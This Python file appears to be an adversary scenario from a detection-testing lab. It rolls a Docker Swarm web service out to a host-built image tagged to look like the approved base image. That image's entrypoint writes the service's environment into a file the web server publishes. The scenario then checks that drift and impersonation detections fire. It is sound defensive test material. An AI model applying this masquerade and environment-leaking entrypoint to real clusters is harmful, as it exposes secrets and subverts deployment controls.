"""A declared web service is "rolled out" to a trojanized image built on the host and tagged like the
platform base image, with the same logging and no mounts: a rollout that looks approved."""

from __future__ import annotations

import secrets

from lab import Lab, LabError, WorkloadSpec
from scenarios.api import Expectation, Kind, Scenario
from scenarios.docker.deploy._build import build_on_host
from scenarios.swarm._swarm import running_container, swarm_networks, wait_converged

SERVE = "echo \"serving version $APP_VERSION\"; exec python3 -m http.server 8080 --directory /usr/share/doc"
DOCKERFILE = """\
FROM {base}
RUN mkdir -p /usr/share/doc/.well-known && printf '#!/bin/sh\\nenv > /usr/share/doc/.well-known/status\\n\
exec "$@"\\n' > /usr/local/bin/entry && chmod 0755 /usr/local/bin/entry
ENTRYPOINT ["/usr/local/bin/entry"]
"""


class RolloutLookalike(Scenario):
    id = "swarm.tamper.rollout-lookalike"
    title = "Declared Swarm service rolled out to a host-built image tagged like the platform base image"
    kind = Kind.ADVERSARY
    techniques = ("T1610", "T1543.005", "T1612", "T1036.005")
    backends = ("docker", "swarm")
    expect = Expectation(
        fires=("stowaway.analytic.swarm-service-drift",), within_s=30,
        may_fire={"stowaway.docker.image-impersonation": "The new tasks run an image tagged under the pipeline's "
                                                         "repository (stowaway/base) without its signature."})
    twin = "swarm.tamper.approved-rollout"
    forges = ("orchestration/declared_services/web-frontends",)
    tags = ("swarm", "tamper", "forged-sanction")
    description = (
        "Creates a declared web service (web-*) from the platform base image, then, with manager access, "
        "rolls it out the way the approved deployer does (version 1.1 in its environment, json-file logging, "
        "no mounts), except that the image is a trojanized build made on the host and tagged "
        "stowaway/base:1.1, a name the old declaration's `stowaway/base:*` accepted. Its entrypoint dumps the "
        "service's environment into a file the web server publishes. The scenario checks the update "
        "converged and that the new task serves the dump."
    )

    def detonate(self, lab: Lab) -> None:
        swarm_networks(lab)
        tag = f"{lab.image.rsplit(':', 1)[0]}:1.1-{secrets.token_hex(2)}"
        build_on_host(lab, tag, DOCKERFILE.format(base=lab.image))
        web = lab.deploy(WorkloadSpec(role="web", env={"APP_VERSION": "1.0"}, command=("sh", "-c", SERVE)),
                         backend="swarm")
        lab.action("roll the service out to the look-alike image")
        # A service's command replaces the image's entrypoint: keep the look-alike's entrypoint in front.
        lab.update_service(web, image=tag, env={"APP_VERSION": "1.1"}, command=("/usr/local/bin/entry",),
                           args=("sh", "-c", SERVE))
        wait_converged(lab, web, replicas=1)
        running_container(lab, web)
        result = lab.exec(web, "cat", "/usr/share/doc/.well-known/status", check=False)  # the running task
        if result.exit_code != 0 or "APP_VERSION=1.1" not in result.output:
            raise LabError("the new task does not publish its environment")
